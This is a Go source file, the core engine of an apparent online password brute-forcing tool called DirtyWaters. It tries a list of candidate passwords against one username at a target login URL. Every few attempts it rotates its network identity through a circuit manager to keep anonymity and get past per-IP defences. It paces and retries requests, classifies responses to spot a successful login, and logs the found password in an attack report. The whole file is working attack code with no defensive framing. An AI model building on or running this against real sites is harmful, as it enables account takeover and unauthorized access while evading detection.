package engine

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/caselka/DirtyWaters/internal/circuit"
	"github.com/caselka/DirtyWaters/internal/classify"
	"github.com/caselka/DirtyWaters/internal/model"
	"github.com/caselka/DirtyWaters/internal/retry"
	"github.com/caselka/DirtyWaters/internal/session"
)

// DefaultRotationInterval is how many attempts share one identity before a
// rotation is requested, when not overridden.
const DefaultRotationInterval = 10

// defaultProgressEvery is how often (in attempts) a progress summary line is
// logged in addition to the per-attempt lines.
const defaultProgressEvery = 25

// Rotator is the circuit manager as the engine sees it: connect once up
// front, rotate on schedule, disconnect on every exit path.
type Rotator interface {
	Connect(ctx context.Context) error
	Rotate(ctx context.Context) error
	Disconnect()
	Status() circuit.Status
}

// LoginSession is the network collaborator: one preflight check, then one
// call per candidate.
type LoginSession interface {
	Verify(ctx context.Context) error
	Attempt(ctx context.Context, password string) (*session.Response, error)
}

// Engine sequences candidates against the target. It owns the candidate
// list, the attempt counter, and the growing report; the circuit manager,
// retry handler, and classifier are services it calls. An Engine runs one
// attack and is not reused.
type Engine struct {
	session    LoginSession
	rotator    Rotator
	classifier *classify.Classifier
	retrier    *retry.Handler
	candidates []string

	// targetURL and username are report metadata.
	targetURL string
	username  string

	// rotationInterval is the attempts-per-identity schedule.
	rotationInterval int

	// rateLimit is the pause after each non-final, non-successful
	// attempt.
	rateLimit time.Duration

	// progressEvery controls the periodic progress summary.
	progressEvery int

	// logger is used for structured logging.
	logger *slog.Logger

	// now and sleep exist so the pacing logic is testable without real
	// waiting.
	now   func() time.Time
	sleep func(ctx context.Context, d time.Duration) error
}

// Option is a function that configures an Engine.
type Option func(*Engine)

// WithRotationInterval sets how many attempts share one identity.
// Values below 1 are ignored.
func WithRotationInterval(n int) Option {
	return func(e *Engine) {
		if n >= 1 {
			e.rotationInterval = n
		}
	}
}

// WithRateLimit sets the pause between attempts. Negative values are
// ignored; zero disables pacing.
func WithRateLimit(d time.Duration) Option {
	return func(e *Engine) {
		if d >= 0 {
			e.rateLimit = d
		}
	}
}

// WithRetryHandler replaces the default retry handler.
func WithRetryHandler(h *retry.Handler) Option {
	return func(e *Engine) {
		if h != nil {
			e.retrier = h
		}
	}
}

// WithProgressEvery sets how often a progress summary is logged.
// Values below 1 are ignored.
func WithProgressEvery(n int) Option {
	return func(e *Engine) {
		if n >= 1 {
			e.progressEvery = n
		}
	}
}

// WithLogger sets a custom logger.
// If not set, slog.Default() is used.
func WithLogger(logger *slog.Logger) Option {
	return func(e *Engine) {
		e.logger = logger
	}
}

// New creates an Engine that tries candidates (in order) against the login
// session, identified in the report as targetURL/username.
func New(sess LoginSession, rot Rotator, cls *classify.Classifier, candidates []string, targetURL, username string, opts ...Option) *Engine {
	e := &Engine{
		session:          sess,
		rotator:          rot,
		classifier:       cls,
		candidates:       candidates,
		targetURL:        targetURL,
		username:         username,
		rotationInterval: DefaultRotationInterval,
		rateLimit:        0,
		progressEvery:    defaultProgressEvery,
		now:              time.Now,
		sleep:            sleepContext,
	}

	for _, opt := range opts {
		opt(e)
	}

	if e.retrier == nil {
		e.retrier = retry.New()
	}
	if e.logger == nil {
		e.logger = slog.Default()
	}

	return e
}

// Run executes the attack: preflight, the sequential attempt loop, teardown,
// report. It blocks until a terminal state is reached.
//
// A nil error means the run reached a normal terminal state (Succeeded,
// Exhausted, or Interrupted); the report says which. A non-nil error with a
// nil report means preflight failed and no attempt was issued. A non-nil
// error with a non-nil report means an attempt failed fatally mid-run; the
// report covers everything up to and including the fatal attempt.
func (e *Engine) Run(ctx context.Context) (*model.AttackReport, error) {
	if err := e.preflight(ctx); err != nil {
		return nil, err
	}
	// Every terminal path releases the control channel exactly once.
	defer e.rotator.Disconnect()

	start := e.now()
	report := &model.AttackReport{
		TargetURL: e.targetURL,
		Username:  e.username,
		Outcome:   model.RunExhausted,
		StartedAt: start,
	}

	e.logger.Info("starting attack",
		"target", e.targetURL,
		"username", e.username,
		"candidates", len(e.candidates),
		"rotation_interval", e.rotationInterval)

	var runErr error

loop:
	for i, candidate := range e.candidates {
		seq := i + 1

		if ctx.Err() != nil {
			report.Outcome = model.RunInterrupted
			break
		}

		// Rotation is due before the request of its iteration, never
		// after. A failed rotation is logged and skipped: a stale
		// identity degrades anonymity but does not invalidate the
		// attempt.
		if seq%e.rotationInterval == 0 {
			if err := e.rotator.Rotate(ctx); err != nil {
				if isCancellation(err) {
					report.Outcome = model.RunInterrupted
					break
				}
				e.logger.Warn("rotation failed, continuing on current identity",
					"seq", seq, "error", err)
			}
		}

		record, err := e.attempt(ctx, seq, candidate)
		if err != nil {
			// Cancellation mid-attempt: nothing completed for this
			// candidate, so nothing is recorded.
			report.Outcome = model.RunInterrupted
			break
		}
		report.Attempts = append(report.Attempts, *record)

		e.logProgress(seq, record)

		switch record.Outcome {
		case model.OutcomeSuccess:
			report.Outcome = model.RunSucceeded
			report.FoundPassword = candidate
			break loop
		case model.OutcomeFatalError:
			report.Outcome = model.RunAborted
			runErr = fmt.Errorf("attempt %d failed fatally: %s", seq, record.Error)
			break loop
		}

		// Pacing applies between attempts; after the final candidate
		// there is nothing to pace.
		if e.rateLimit > 0 && i < len(e.candidates)-1 {
			if err := e.sleep(ctx, e.rateLimit); err != nil {
				report.Outcome = model.RunInterrupted
				break
			}
		}
	}

	report.FinishedAt = e.now()
	report.Elapsed = report.FinishedAt.Sub(start)
	report.TotalAttempts = len(report.Attempts)
	report.Rotations = e.rotator.Status().Rotations

	e.logger.Info("attack finished",
		"outcome", report.Outcome,
		"attempts", report.TotalAttempts,
		"rotations", report.Rotations,
		"elapsed", report.Elapsed)

	return report, runErr
}

// preflight runs the two independent startup checks concurrently: the
// control channel must connect and the target must answer through the
// proxy. Either failing is fatal before any attempt is issued.
func (e *Engine) preflight(ctx context.Context) error {
	g, gctx := errgroup.WithContext(ctx)

	g.Go(func() error {
		if err := e.rotator.Connect(gctx); err != nil {
			return fmt.Errorf("control channel: %w", err)
		}
		return nil
	})
	g.Go(func() error {
		return e.session.Verify(gctx)
	})

	if err := g.Wait(); err != nil {
		// Connect may have succeeded while Verify failed; make sure
		// the channel is not leaked.
		e.rotator.Disconnect()
		return err
	}
	return nil
}

// attempt runs one candidate through the retry handler and classifies the
// result. It returns an error only for cancellation; every other outcome
// becomes a record.
func (e *Engine) attempt(ctx context.Context, seq int, candidate string) (*model.AttemptRecord, error) {
	start := e.now()

	// The login request itself deliberately does not ride the run
	// context: an interrupt must land between requests, not abort a POST
	// halfway. The HTTP client's own timeout bounds the request; the run
	// context gates the retry loop around it.
	var resp *session.Response
	err := e.retrier.Do(ctx, func() error {
		r, attemptErr := e.session.Attempt(context.Background(), candidate)
		if attemptErr != nil {
			return attemptErr
		}
		resp = r
		return nil
	})

	record := &model.AttemptRecord{
		Seq:       seq,
		Candidate: candidate,
	}

	switch {
	case err == nil:
		verdict := e.classifier.Classify(resp.StatusCode, resp.RedirectTarget, resp.Body)
		record.Verdict = verdict
		record.StatusCode = resp.StatusCode
		record.RedirectTarget = resp.RedirectTarget
		if verdict == model.VerdictSuccess {
			record.Outcome = model.OutcomeSuccess
		} else {
			record.Outcome = model.OutcomeFailed
		}

	case isCancellation(err):
		return nil, err

	default:
		var exhausted *retry.ExhaustedError
		if errors.As(err, &exhausted) && session.IsTransient(exhausted.Err) {
			record.Outcome = model.OutcomeTransientError
		} else {
			record.Outcome = model.OutcomeFatalError
		}
		record.Error = err.Error()
	}

	record.Duration = e.now().Sub(start)
	return record, nil
}

// logProgress emits the per-attempt log line and the periodic summary.
func (e *Engine) logProgress(seq int, record *model.AttemptRecord) {
	e.logger.Info("attempt finished",
		"seq", seq,
		"total", len(e.candidates),
		"candidate", record.Candidate,
		"outcome", record.Outcome,
		"verdict", record.Verdict,
		"status", record.StatusCode,
		"duration", record.Duration)

	if seq%e.progressEvery == 0 && seq < len(e.candidates) {
		remaining := len(e.candidates) - seq
		e.logger.Info("progress",
			"completed", seq,
			"remaining", remaining,
			"rotations", e.rotator.Status().Rotations)
	}
}

// isCancellation reports whether err is the run context being cancelled.
func isCancellation(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}

// sleepContext sleeps for d or until ctx is cancelled, whichever comes first.
func sleepContext(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return nil
	}
	timer := time.NewTimer(d)
	defer timer.Stop()

	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-timer.C:
		return nil
	}
}
